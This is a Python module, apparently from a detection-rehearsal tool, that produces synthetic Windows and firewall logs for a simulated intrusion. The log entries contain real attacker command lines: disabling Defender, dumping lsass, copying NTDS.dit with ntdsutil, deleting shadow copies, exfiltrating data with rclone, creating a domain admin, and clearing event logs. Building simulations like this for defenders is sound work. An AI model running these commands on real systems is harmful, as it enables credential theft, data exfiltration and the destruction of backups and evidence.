"""Stages on the Windows computers."""

# ruff: noqa: ARG001  every stage is an `Act` of `intrusion` and takes the same

from __future__ import annotations

import base64
from random import Random

from tocsin.records.instants import SECOND
from tocsin.rehearse.townhall.day import Scene
from tocsin.rehearse.townhall.entry import Entry
from tocsin.rehearse.townhall.firewall import traffic
from tocsin.rehearse.townhall.formats import logons
from tocsin.rehearse.townhall.formats import windows as win
from tocsin.rehearse.townhall.formats.logons import Origin
from tocsin.rehearse.townhall.hosts import Host
from tocsin.rehearse.townhall.people import Account
from tocsin.rehearse.townhall.stages.cast import Cast
from tocsin.rehearse.townhall.technician import POWERSHELL_EXE, account_created, group_joined, remote_desktop
from tocsin.rehearse.townhall.windows import EXPLORER, SYSTEM32

CMD = f"{SYSTEM32}\\cmd.exe"
_WORKSTATION = "DESKTOP-4F2K"
"""What the intruder's computer calls itself."""

_INERT = base64.b64encode("Write-Output 'inert placeholder'".encode("utf-16-le")).decode()


def _commands(rng: Random, host: Host, time: int, account: Account, commands: list[str]) -> list[Entry]:
    """Typed one after the other at a command prompt; the first word is the program in System32."""
    entries = win.process(rng, host, time, account, CMD, f'"{CMD}"', EXPLORER)
    for command in commands:
        time += rng.randrange(8 * SECOND, 45 * SECOND)
        program = command.split()[0].removesuffix(".exe")
        entries += win.process(rng, host, time, account, f"{SYSTEM32}\\{program}.exe", command, CMD)
    return entries


def first_computer(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """A remote desktop on the victim's PC, from within. From the web server the password has to be guessed first."""
    through_web = cast.inside == scene.network.web.address
    entries: list[Entry] = []
    if through_web:
        entries = _guessing_inside(rng, scene, cast, time)
        time = entries[-1].time + 20 * SECOND
    interface, user = ("dmz", "") if through_web else ("ssl.root", cast.victim.account.name)
    return [
        *entries,
        traffic(rng, time, (cast.inside, interface), (cast.pc.address, "lan"), 3389, user=user),
        *remote_desktop(rng, scene, time, cast.victim.account, cast.inside, _WORKSTATION, cast.pc),
    ]


def _guessing_inside(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """A few passwords for several people's names, tried on one PC from the web server's address."""
    origin = Origin(_WORKSTATION, cast.inside, rng.randrange(49152, 65535))
    others = [person.account for person in scene.town.people if person is not cast.victim]
    entries = []
    for account in [*rng.sample(others, 14), cast.victim.account]:
        for _ in range(rng.randrange(1, 4)):
            entries.append(logons.failed_logon(cast.pc, time, account, 3, origin))
            time += rng.randrange(2 * SECOND, 9 * SECOND)
    return entries


def look_around(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """Who am I, who is powerful here, what else is there."""
    commands = [
        "whoami /all",
        "net user /domain",
        'net group "Domain Admins" /domain',
        "nltest /domain_trusts",
        "ipconfig /all",
        "net view /all",
        "quser",
        "tasklist /svc",
    ]
    return _commands(rng, cast.pc, time, cast.victim.account, rng.sample(commands, 6))


def hidden_script(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """PowerShell with a hidden window and an encoded command; what it holds here does nothing."""
    command = (
        f"powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand {_INERT}"
    )
    return [
        *win.process(rng, cast.pc, time, cast.victim.account, POWERSHELL_EXE, command, CMD),
        win.script_block(rng, cast.pc, time + SECOND, "Write-Output 'inert placeholder'"),
    ]


def defender_off(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """The virus scanner is switched off."""
    command = "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true"
    return [
        *win.process(rng, cast.pc, time, cast.victim.account, POWERSHELL_EXE, command, CMD),
        win.script_block(rng, cast.pc, time + SECOND, "Set-MpPreference -DisableRealtimeMonitoring $true"),
        win.event(cast.pc, time + 2 * SECOND, win.DEFENDER, 5001, {
            "Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.24090.11",
        }),
    ]  # fmt: skip


def memory_of_lsass(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """The memory that holds passwords is written to a file, in one of the publicly known ways."""
    host, account = cast.pc, cast.victim.account
    ways = (
        (
            f"{SYSTEM32}\\rundll32.exe",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.dmp full",
        ),
        (
            "C:\\Users\\Public\\procdump64.exe",
            "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\d.dmp",
        ),
    )
    image, command = rng.choice(ways)
    entries = win.process(rng, host, time, account, image, command, CMD, elevated=True)
    if host.sysmon:
        lsass = f"{SYSTEM32}\\lsass.exe"
        entries += [
            win.sysmon(host, time + SECOND, 10, {
                "SourceProcessGUID": win.process_guid(host, time), "SourceProcessId": "7312", "SourceThreadId": "7316",
                "SourceImage": image, "TargetProcessGUID": win.process_guid(host, scene.day.start),
                "TargetProcessId": "624", "TargetImage": lsass, "GrantedAccess": "0x1fffff",
                "CallTrace": f"{SYSTEM32}\\ntdll.dll+9d4e4|{SYSTEM32}\\dbgcore.dll+6cee",
                "SourceUser": f"{account.domain}\\{account.name}", "TargetUser": "NT AUTHORITY\\SYSTEM",
            }),
            win.sysmon(host, time + 2 * SECOND, 11, {
                "ProcessGuid": win.process_guid(host, time), "ProcessId": "7312", "Image": image,
                "TargetFilename": "C:\\Windows\\Temp\\d.dmp", "User": f"{account.domain}\\{account.name}",
            }),
        ]  # fmt: skip
    return entries


def file_server(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """On to the file server with the technician's second account: by remote desktop, and sometimes by a service or WMI."""
    files, admin, pc = scene.network.files, cast.admin, cast.pc
    entries = [
        logons.explicit(pc, time, cast.victim.account, admin, files),
        *remote_desktop(rng, scene, time, admin, pc.address, pc.name, files),
    ]
    way = rng.choice(("desktop", "service", "service", "wmi"))
    if way == "service":
        name = "".join(rng.choices("bcdfghjklmnpqrstvwxyz", k=8))
        image = f"C:\\Windows\\Temp\\{name}.exe"
        entries += [
            win.service_installed(files, time + 30 * SECOND, name, image),
            *win.process(rng, files, time + 32 * SECOND, admin, CMD, "cmd.exe /c whoami", image),
        ]
    elif way == "wmi":
        command = f'wmic.exe /node:{files.name} process call create "cmd.exe /c whoami"'
        entries += win.process(
            rng, pc, time + 30 * SECOND, admin, f"{SYSTEM32}\\wbem\\WMIC.exe", command, CMD
        )
        entries += win.process(
            rng, files, time + 31 * SECOND, admin, CMD, "cmd.exe /c whoami", f"{SYSTEM32}\\wbem\\WmiPrvSE.exe"
        )
    return entries


def password_database(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """The domain controller's password database is copied with its own tool."""
    controller = scene.network.controller
    target = "C:\\Windows\\Temp\\a"
    command = f'ntdsutil.exe "ac i ntds" "ifm" "create full {target}" q q'
    entries = remote_desktop(rng, scene, time, cast.admin, cast.pc.address, cast.pc.name, controller)
    entries += _commands(rng, controller, time + 40 * SECOND, cast.admin, [command])
    dit = f"{target}\\Active Directory\\ntds.dit"
    entries += [
        win.event(controller, time + (100 + place) * SECOND, win.DATABASE, code, {
            "param1": "ntdsutil", "param2": "4120,D,0", "param3": "", "param4": "1", "param5": dit,
        })
        for place, code in enumerate((325, 326, 327))
    ]  # fmt: skip
    return entries


def shadow_copies(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """Everything that Windows keeps for going back is deleted on the file server."""
    commands = [
        rng.choice(("vssadmin.exe delete shadows /all /quiet", "wmic.exe shadowcopy delete")),
        "wbadmin.exe delete catalog -quiet",
        "bcdedit.exe /set {default} recoveryenabled no",
        "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures",
    ]
    files = scene.network.files
    entries = _commands(rng, files, time, cast.admin, commands)
    entries.append(
        win.event(
            files,
            time + 15 * SECOND,
            win.SERVICES,
            7036,
            {"param1": "Volume Shadow Copy", "param2": "running"},
        )
    )
    return entries


def packing(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """Shares are packed under a password and sent out by a copying tool; the firewall sees the bytes go."""
    network, share = scene.network, cast.victim.department.replace(" ", "")
    files, admin = network.files, cast.admin
    pack = f"7z.exe a -mhe=on -pPLACEHOLDER C:\\ProgramData\\t\\a.7z D:\\Shares\\{share}"
    send = "rclone.exe copy C:\\ProgramData\\t\\a.7z drop:in --config C:\\ProgramData\\t\\r.conf"
    sent = rng.randrange(3 * 10**9, 20 * 10**9)
    return [
        *win.process(rng, files, time, admin, "C:\\ProgramData\\t\\7z.exe", pack, CMD),
        *win.process(rng, files, time + 300 * SECOND, admin, "C:\\ProgramData\\t\\rclone.exe", send, CMD),
        *(
            traffic(
                rng,
                time + (310 + step * 60) * SECOND,
                (files.address, "lan"),
                (cast.spare[0], "wan1"),
                443,
                sent=sent // 4,
                received=10**6,
            )
            for step in range(4)
        ),
    ]


def domain_admin(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """A new account, at once a domain administrator."""
    town, controller = scene.town, scene.network.controller
    new = Account(cast.new_name, town.netbios, f"{town.domain_sid}-{rng.randrange(3000, 3999)}")
    entries = remote_desktop(rng, scene, time, cast.admin, cast.pc.address, cast.pc.name, controller)
    commands = [
        f"net user {new.name} PLACEHOLDER /add /domain",
        f'net group "Domain Admins" {new.name} /add /domain',
    ]
    entries += _commands(rng, controller, time + 30 * SECOND, cast.admin, commands)
    entries += account_created(controller, time + 60 * SECOND, cast.admin, new)
    entries.append(
        group_joined(
            controller, time + 120 * SECOND, cast.admin, new, "Domain Admins", f"{town.domain_sid}-512"
        )
    )
    return entries


def logs_cleared(rng: Random, scene: Scene, cast: Cast, time: int) -> list[Entry]:
    """The logs of the file server and of the victim's PC are emptied, by the account that may."""
    entries: list[Entry] = []
    account = cast.admin
    for host in (scene.network.files, cast.pc):
        entries += _commands(rng, host, time, account, ["wevtutil.exe cl System", "wevtutil.exe cl Security"])
        entries += [
            win.log_cleared(host, time + 50 * SECOND, account, "System"),
            win.log_cleared(host, time + 92 * SECOND, account, "Security"),
        ]
        time += 150 * SECOND
    return entries
